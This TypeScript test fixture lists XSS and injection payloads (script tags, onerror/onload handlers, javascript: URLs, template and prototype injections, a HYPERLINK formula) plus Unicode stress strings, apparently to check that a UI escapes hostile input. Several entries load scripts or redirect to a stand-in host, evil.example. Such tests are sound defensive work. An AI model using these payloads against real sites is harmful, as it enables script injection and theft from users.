/**
 * Hostile texts. If a page interpreted one of them, it would call `xss`, load a foreign resource or
 * create an element.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>xss()</script>',
  '<script src=//evil.example/x.js></script>',
  '</script><script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<img src="x" onerror="xss()" data-xss>',
  '"><img src=x onerror=xss()>',
  "'><img src=x onerror=xss()>",
  '"onmouseover="xss()"x="',
  "' onfocus=xss() autofocus '",
  '<svg onload=xss()>',
  '<svg/onload=xss()//',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x>',
  '<math><mi xlink:href="javascript:xss()">x</mi></math>',
  '<body onload=xss()>',
  '<iframe src=javascript:xss()></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>">',
  '<object data=javascript:xss()></object>',
  '<embed src=javascript:xss()>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>Pay</button></form>',
  '<input onfocus=xss() autofocus>',
  '<details open ontoggle=xss()>',
  '<video><source onerror=xss()>',
  '<audio src=x onerror=xss()>',
  '<marquee onstart=xss()>x</marquee>',
  '<a href="javascript:xss()">pay here</a>',
  '<a href="data:text/html,<script>xss()</script>">x</a>',
  '[pay](javascript:xss())',
  'javascript:xss()',
  'JaVaScRiPt:xss()//',
  'data:text/html,<script>xss()</script>',
  'vbscript:xss()',
  '//evil.example/%2e%2e',
  'https://evil.example@floor.example/',
  '<style>*{display:none}</style>',
  "<style>@import'//evil.example'</style>",
  '<div style="position:fixed;inset:0;background:red">',
  '<template><img src=x onerror=xss()></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<!--<img src="--><img src=x onerror=xss()>">',
  '<![CDATA[<img src=x onerror=xss()>]]>',
  '&lt;img src=x onerror=xss()&gt;',
  '&#60;img src=x onerror=xss()&#62;',
  '\\u003cimg src=x onerror=xss()\\u003e',
  '%3Cimg%20src=x%20onerror=xss()%3E',
  "{{constructor.constructor('xss()')()}}",
  '${xss()}',
  '#{xss()} <%= xss() %>',
  '$t(session:home.role) {{name}}',
  '{{- name}} $t({{name}})',
  '`;xss();//`',
  "';xss();//",
  '"};xss();//',
  '</textarea><img src=x onerror=xss()>',
  '</title><img src=x onerror=xss()>',
  '__proto__ constructor toString',
  '=HYPERLINK("//evil.example","x")',
  // These run nothing; they break lines and widths.
  '\u202Eevitcelloc\u202C \u2066x\u2069 \u200B\u200D\uFEFF',
  'Z\u0351\u036B\u0343\u036A\u0302\u0301a\u0351\u0489\u0315l\u0334\u0322g\u0361\u036Ao\u033A\u032C',
  'W'.repeat(60),
  '\uD83D\uDE00'.repeat(20),
  '\u0E01\u0E4D\u0E4D\u0E4D\u0E4D\u0E4D\u0E4D\u0E4D\u0E4D',
]

/** Returns texts of at most `max` characters in turn, so that each of them is entered somewhere. */
export function hostileTexts(): (max: number) => string {
  let at = 0
  return (max) => {
    let text = ''
    for (let tried = 0; tried < HOSTILE_TEXTS.length; tried += 1) {
      const next = HOSTILE_TEXTS[at % HOSTILE_TEXTS.length] as string
      const joined = text === '' ? next : `${text} ${next}`
      if (joined.length > max && text !== '') return text
      at += 1
      if (joined.length <= max) text = joined
    }
    return text
  }
}
